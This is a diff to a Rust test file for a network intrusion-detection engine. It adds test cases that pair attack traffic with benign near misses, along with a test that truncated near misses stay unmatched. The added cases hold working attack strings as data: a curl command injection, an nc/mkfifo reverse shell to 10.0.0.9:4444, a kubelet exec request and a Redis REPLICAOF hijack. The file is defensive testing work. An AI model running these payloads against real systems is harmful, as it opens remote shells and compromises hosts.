@@ -66,7 +66,35 @@ const STREAMS: [Case; 49] = [
     (7_000_070, PEER, 443, b"\x18\x03\x02\x00\x03\x01\x40\x00", b"\x18\x03\x03\x00\x17\x01\x00\x04abcd0123456789abcdef"),
 ];
 
-const MORE_STREAMS: [Case; 3] = [
+const MORE_STREAMS: [Case; 7] = [
+    (
+        7_000_018,
+        PEER,
+        80,
+        b"GET /ping?host=a;$(curl${IFS}10.0.0.9/x) HTTP/1.1\r\n\r\n",
+        b"POST /job HTTP/1.1\r\n\r\n{\"run\":\"v=$(curl -s http://a/v)\"}",
+    ),
+    (
+        7_000_026,
+        PEER,
+        80,
+        b"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.9 4444 >/tmp/f",
+        b"mkfifo /run/log; cat /run/log | gzip",
+    ),
+    (
+        7_000_039,
+        PEER,
+        10_250,
+        b"POST /exec/default/web/app?command=id&output=1 HTTP/1.1\r\n\r\n",
+        b"GET /metrics/exec/ HTTP/1.1\r\n\r\n",
+    ),
+    (
+        7_000_062,
+        PEER,
+        6379,
+        b"*3\r\n$9\r\nREPLICAOF\r\n$8\r\n10.0.0.9\r\n$4\r\n6379\r\n",
+        b"*3\r\n$9\r\nREPLICAOF\r\n$2\r\nNO\r\n$3\r\nONE\r\n",
+    ),
     (7_000_071, PEER, 5005, b"JDWP-Handshake", b"GET /JDWP-Handshake"),
     (7_000_072, PEER, 3333, b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n", b"{\"method\":\"subscribe\"}\n"),
     (
@@ -179,7 +207,8 @@ fn every_rule_finds_its_attack_and_leaves_its_near_miss() {
     };
     assert!(datagram(&engine, 17, dns, &question(0x0a)).contains(&7_000_074));
     assert!(datagram(&engine, 17, dns, &question(0x01)).is_empty());
-    covered.insert(7_000_074);
+    assert!(datagram(&engine, 17, dns, &question(0xfc)).contains(&7_000_077));
+    covered.extend([7_000_074, 7_000_077]);
     let icmp = |kind| Transport::Icmp {
         kind,
         code: 0,
@@ -200,6 +229,21 @@ fn every_rule_finds_its_attack_and_leaves_its_near_miss() {
         all, covered,
         "each rule needs a case here, and each case a rule"
     );
+}
+
+/// A near miss must not become a match because only a part of it has arrived.
+#[test]
+fn near_misses_stay_silent_when_cut_short() {
+    let engine = engine();
+    for (sid, destination, port, _, near_miss) in STREAMS.into_iter().chain(MORE_STREAMS) {
+        for length in 0..near_miss.len() {
+            let found = stream(&engine, destination, port, &near_miss[..length]);
+            assert!(
+                !found.contains(&sid),
+                "sid {sid} on the first {length} bytes"
+            );
+        }
+    }
 }
 
 #[test]
